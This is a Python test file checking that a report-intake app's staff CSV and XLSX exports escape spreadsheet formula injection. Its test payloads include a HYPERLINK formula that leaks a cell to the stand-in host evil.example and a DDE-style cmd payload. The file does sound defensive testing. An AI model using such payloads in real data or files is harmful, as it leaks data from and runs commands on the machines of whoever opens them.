"""Item 11: a stranger files a report whose text is a spreadsheet formula, hoping a staff member
opens the export and the formula runs (leaking the next cell to evil.example). What they get:
every text cell of the CSV and XLSX exports is inert text; a value that starts like a formula
(= + - @, tab, CR) starts with ' instead."""
import csv
import io

from openpyxl import load_workbook

from tests.app.staff.conftest import as_user, staff_app  # noqa: F401  (fixtures)
from tests.helpers import drain
from ingest.sources import RawReport

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&B2,"Klik")', "+62 812 1111 2222 =1+1", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _file_reports(services):
    for i, text in enumerate(PAYLOADS):
        services.producer.submit(RawReport(category="garbage", lat=-6.2088 + i * 0.001, lng=106.8456,
                                           description=text, address=text, source="web",
                                           source_ref=f"formula-{i}"))
    drain(services)


def test_formula_in_a_description_stays_text_in_csv_and_xlsx(services, as_user):  # noqa: F811
    _file_reports(services)
    staff = as_user("super1")

    text = staff.get("/staff/api/export?format=csv&lang=en&sep=comma").data.decode("utf-8-sig")
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(records) == len(PAYLOADS)
    descriptions = {r["Description"] for r in records}
    assert descriptions == {"'" + p.strip() for p in PAYLOADS}     # the form trims the text
    assert any(r["Description"].startswith("'=HYPERLINK") for r in records)
    for record in records:
        for column in ("Description", "Address"):
            assert not record[column].startswith(("=", "+", "-", "@", "\t", "\r")), record[column]
        float(record["Latitude"])     # numbers stay numbers

    book = load_workbook(io.BytesIO(staff.get("/staff/api/export?format=xlsx&lang=en").data))
    sheet = book["reports"]
    header = [c.value for c in sheet[1]]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    assert all(isinstance(c.value, str) for c in cells if c.value is not None
               and header[c.column - 1] in ("Description", "Address", "Ticket", "Category"))
    described = {sheet.cell(row=r, column=header.index("Description") + 1).value for r in range(2, sheet.max_row + 1)}
    assert described == {"'" + p.strip() for p in PAYLOADS}
    lat = sheet.cell(row=2, column=header.index("Latitude") + 1).value
    assert isinstance(lat, float)


def test_the_writer_escapes_tab_and_cr_starts_too():
    """Whatever reaches the exporter (an import, an older row): a tab or CR start is escaped too."""
    from collections import namedtuple

    from app.staff import queue

    Row = namedtuple("Row", queue.EXPORT_COLUMNS)
    values = {c: None for c in queue.EXPORT_COLUMNS}
    rows = [Row(**{**values, "ticket": "JKT-1", "description": text, "lat": -6.2, "lng": 106.8})
            for text in ("\t=1+1", "\r=1+1", "=1+1", "biasa")]
    out = io.BytesIO()
    queue.write_export(rows, "csv", out, lang="en", delimiter=",")
    written = [r["Description"] for r in csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline=""))]
    assert written == ["'\t=1+1", "'\r=1+1", "'=1+1", "biasa"]
    out = io.BytesIO()
    queue.write_export(rows, "xlsx", out, lang="en")
    sheet = load_workbook(io.BytesIO(out.getvalue()))["reports"]
    column = queue.EXPORT_COLUMNS.index("description") + 1
    shown = [sheet.cell(row=r, column=column).value for r in range(2, 6)]
    assert shown[0] == written[0] and shown[1].startswith("'") and shown[2:] == written[2:]   # XML keeps no bare CR
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
